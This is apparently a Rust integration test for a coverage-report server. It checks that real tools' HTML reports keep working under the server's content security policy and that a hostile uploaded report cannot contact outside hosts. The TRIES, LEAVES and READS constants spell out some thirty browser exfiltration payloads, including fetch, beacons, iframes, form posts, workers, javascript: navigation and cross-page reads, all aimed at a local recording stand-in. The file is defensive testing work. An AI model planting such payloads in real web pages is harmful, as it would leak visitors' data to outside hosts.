//! Reports are untrusted pages: under the server's policy every tool's report works as it does without one, and a
//! hostile one reaches nobody.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use http_body_util::BodyExt;
use hyper::header::HeaderValue;
use serde_json::{Value, json};
use xtask::lab::http::{Dropped, Serving, forward, full};
use xtask::lab::parts::{Part, skip_without};
use xtask::lab::{covered, node, paths, process};

use crate::{REPOSITORY, SHA, World, setting};

const BROWSER: [Part; 2] = [Part::Node, Part::Chromium];

/// The reports of real tools: the large collection beside the repository where it is there, else the fixtures.
fn real_reports() -> Vec<(String, PathBuf)> {
    let corpus = paths::root().join("../shared/corpus");
    let (folder, below) = match corpus.is_dir() {
        true => (corpus, "report"),
        false => (paths::root().join("action/tests/fixtures/totals"), ""),
    };
    let mut reports = vec![("sample".to_owned(), paths::root().join("xtask/sample/report"))];
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let report = path.join(below);
        let has_page = |entry: std::fs::DirEntry| entry.path().extension().is_some_and(|end| end == "html");
        if report.is_dir() && std::fs::read_dir(&report).unwrap().any(|entry| has_page(entry.unwrap())) {
            reports.push((path.file_name().unwrap().to_string_lossy().into_owned(), report));
        }
    }
    reports.sort();
    reports
}

/// Uploads a report, whatever its total, and gives its path.
fn upload(world: &World, report: &Path) -> String {
    let server = &world.server.url;
    let mut command = covered::covered(report, server, &world.github.url(), REPOSITORY, SHA);
    let log = process::run(&mut command).unwrap().text();
    let link =
        log.lines().find_map(|line| line.strip_prefix("Report: ")).unwrap_or_else(|| panic!("{report:?}\n{log}"));
    link.strip_prefix(server.as_str()).unwrap().to_owned()
}

/// The same server without what keeps a page's scripts where they are.
fn without_policy(upstream: &str) -> Serving {
    let upstream = upstream.to_owned();
    Serving::start(move |request| {
        let upstream = upstream.clone();
        async move {
            let (mut parts, body) = request.into_parts();
            parts.uri = format!("{upstream}{}", parts.uri).parse().unwrap();
            parts.headers.remove("sec-fetch-site");
            let body = body.collect().await.map_err(|_| Dropped)?.to_bytes();
            let answer = forward(hyper::Request::from_parts(parts, full(body))).await.map_err(|_| Dropped)?;
            let (mut parts, body) = answer.into_parts();
            for name in ["content-security-policy", "permissions-policy", "cross-origin-opener-policy"] {
                parts.headers.remove(name);
            }
            Ok(hyper::Response::from_parts(parts, full(body.collect().await.map_err(|_| Dropped)?.to_bytes())))
        }
    })
}

fn texts(list: &Value) -> BTreeSet<&str> {
    list.as_array().unwrap().iter().map(|text| text.as_str().unwrap()).collect()
}

#[test]
fn every_tools_report_works_under_the_policy() {
    if skip_without(&BROWSER) {
        return;
    }
    let world = World::new(&setting("STORAGE_URL", "memory://"));
    let plain = without_policy(&world.server.url);
    let reports = real_reports();
    let task: Vec<Value> = reports
        .iter()
        .map(|(name, report)| {
            let path = upload(&world, report);
            json!({"name": name, "guarded": format!("{}{path}", world.server.url), "plain": format!("{}{path}", plain.url())})
        })
        .collect();
    let seen = node::browse_reports(&json!({"reports": task, "attacks": []}));
    let mut wrong = Vec::new();
    let mut did = BTreeSet::new();
    for report in seen["reports"].as_array().unwrap() {
        let name = report["name"].as_str().unwrap();
        // What is not there is no loss.
        let missing = texts(&report["missing"]);
        let there = |problem: &&&str| !missing.iter().any(|path| problem.contains(path));
        let without = texts(&report["problemsWithout"]);
        let more: Vec<&str> = texts(&report["problems"]).difference(&without).filter(there).copied().collect();
        if !more.is_empty() {
            wrong.push(format!("{name}: {more:#?}"));
        }
        wrong.extend(texts(&report["differences"]).iter().map(|difference| format!("{name}, {difference}")));
        did.extend(texts(&report["did"]).into_iter().map(|step| (step, name)));
    }
    assert!(wrong.is_empty(), "{} of {} reports:\n{}", wrong.len(), reports.len(), wrong.join("\n"));
    assert_eq!(seen["reports"].as_array().unwrap().len(), reports.len());
    // The steps were not all for nothing.
    for step in ["filter", "sort", "expand", "file"] {
        assert!(did.iter().filter(|(done, _)| *done == step).count() > reports.len() / 5, "{step}: {did:?}");
    }
}

/// A server elsewhere: it notes what it is asked for.
fn elsewhere() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
    let seen = Arc::new(Mutex::new(BTreeSet::new()));
    let shared = seen.clone();
    let serving = Serving::start(move |request| {
        shared.lock().unwrap().insert(request.uri().path().trim_start_matches('/').to_owned());
        let mut response = hyper::Response::new(full(""));
        response.headers_mut().insert("access-control-allow-origin", HeaderValue::from_static("*"));
        async move { Ok(response) }
    });
    (serving, seen)
}

/// What a hostile report tries on one page, by the name that the server elsewhere would be asked for.
const TRIES: &[(&str, &str)] = &[
    ("fetch", "fetch(E + 'fetch', {mode: 'no-cors'})"),
    ("xhr", "const x = new XMLHttpRequest(); x.open('POST', E + 'xhr'); x.send('data')"),
    ("beacon", "navigator.sendBeacon(E + 'beacon', 'data')"),
    ("socket", "new WebSocket(E.replace('http', 'ws') + 'socket')"),
    ("events", "new EventSource(E + 'events')"),
    ("image", "new Image().src = E + 'image'"),
    ("script", "add('script', {src: E + 'script'})"),
    ("import", "import(E + 'import').catch(() => {})"),
    ("style", "add('link', {rel: 'stylesheet', href: E + 'style'})"),
    ("css-import", "add('style', {textContent: `@import '${E}css-import'`})"),
    ("background", "document.body.style.background = `url(${E}background)`"),
    ("font", "new FontFace('f', `url(${E}font)`).load().catch(() => {})"),
    ("video", "add('video', {src: E + 'video'})"),
    ("object", "add('object', {data: E + 'object'})"),
    ("embed", "add('embed', {src: E + 'embed'})"),
    ("frame", "add('iframe', {src: E + 'frame'})"),
    ("inner", "add('iframe', {srcdoc: `<img src='${E}inner'>`})"),
    ("data-frame", "add('iframe', {src: `data:text/html,<img src='${E}data-frame'>`})"),
    ("blob-frame", "add('iframe', {src: blob(`<img src='${E}blob-frame'>`, 'text/html')})"),
    ("frame-form", "add('iframe', {name: 'f'}); add('form', {action: E + 'frame-form', target: 'f'}).submit()"),
    ("ping", "add('a', {href: '#here', ping: E + 'ping'}).click()"),
    ("prefetch", "add('link', {rel: 'prefetch', href: E + 'prefetch'})"),
    ("preload", "add('link', {rel: 'preload', as: 'image', href: E + 'preload'})"),
    ("module", "add('link', {rel: 'modulepreload', href: E + 'module'})"),
    ("worker", "new Worker(blob(`fetch('${E}worker', {mode: 'no-cors'})`, 'text/javascript'))"),
    ("svg", "add('div', {innerHTML: `<svg><image href='${E}svg'/></svg>`})"),
];

/// What takes the page away with it.
const LEAVES: &[(&str, &str)] = &[
    ("form", "add('form', {action: E + 'form', method: 'post'}).submit()"),
    ("blob-page", "location = blob(`<img src='${E}blob-page'>`, 'text/html')"),
    ("script-page", "location = `javascript:'<img src=${E}script-page>'`"),
    ("base", "add('base', {href: E}); add('form', {action: 'base'}).submit()"),
];

/// What it tries to read of the server: other reports, and the badges that lead there.
const READS: &str = "
    const told = (name) => (text) => text.includes('pc_cov') || text.includes('schemaVersion') ? read.push(name) : 0;
    fetch('/badge/octo/app.json').then((answer) => answer.text()).then(told('badge')).catch(() => {});
    fetch('/badge/redirect/octo/app/').then((answer) => answer.text()).then(told('redirect')).catch(() => {});
    const html = (frame) => frame.contentDocument.documentElement.outerHTML;
    add('iframe', {src: '/badge/redirect/octo/app/', onload() { try { told('frame')(html(this)) } catch {} }});
    add('button', {textContent: 'more', onclick() {
        const opened = open('/badge/redirect/octo/app/');
        setTimeout(() => { try { told('window')(opened.document.documentElement.outerHTML) } catch {} }, 1000);
    }});
    navigator.serviceWorker.register('sw.js').then(() => read.push('service worker')).catch(() => {});";

/// A report of such pages.
fn hostile(folder: &Path, elsewhere: &str) {
    let start = format!(
        "<!DOCTYPE html><meta charset=utf-8><link rel=icon href=data:,><body><script>
         const E = '{elsewhere}/'; window.read = [];
         const add = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
         const blob = (text, type) => URL.createObjectURL(new Blob([text], {{type}}));"
    );
    let all: String = TRIES.iter().map(|(_, script)| format!("try {{ {script} }} catch {{}}\n")).collect();
    let write = |name: &str, script: &str| {
        std::fs::write(folder.join(name), format!("{start}\n{script}\n</script>")).unwrap();
    };
    write("index.html", &all);
    write("reads.html", READS);
    LEAVES.iter().for_each(|(name, script)| write(&format!("{name}.html"), script));
    std::fs::write(folder.join("sw.js"), "self.addEventListener('fetch', () => {})").unwrap();
}

#[test]
fn a_hostile_report_reaches_nobody() {
    if skip_without(&BROWSER) {
        return;
    }
    let world = World::new(&setting("STORAGE_URL", "memory://"));
    // What it would like to read.
    world.upload_small("87.5", SHA);
    let (evil, seen) = elsewhere();
    let folder = world.folder.path().join("hostile");
    std::fs::create_dir(&folder).unwrap();
    hostile(&folder, &evil.url());
    let path = upload(&world, &folder);
    let plain = without_policy(&world.server.url);
    let suffer = |server: &str| {
        let pages = ["", "reads.html"].map(ToOwned::to_owned).into_iter();
        let pages = pages.chain(LEAVES.iter().map(|(name, _)| format!("{name}.html")));
        let attacks: Vec<Value> =
            pages.map(|page| json!({"name": page, "url": format!("{server}{path}{page}")})).collect();
        let read = node::browse_reports(&json!({"reports": [], "attacks": attacks}))["attacks"][1]["read"].clone();
        let reached = std::mem::take(&mut *seen.lock().unwrap());
        (reached, texts(&read).into_iter().map(ToOwned::to_owned).collect::<BTreeSet<_>>())
    };
    // Without a policy each of them works: else that it does not with one would say nothing.
    let (reached, read) = suffer(&plain.url());
    let missing: Vec<&str> =
        TRIES.iter().chain(LEAVES).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
    assert_eq!(missing, [""; 0], "{reached:?}");
    let readable = ["badge", "frame", "redirect", "window"].map(ToOwned::to_owned);
    assert!(readable.iter().all(|name| read.contains(name)), "{read:?}");

    assert_eq!(suffer(&world.server.url), Default::default());
}
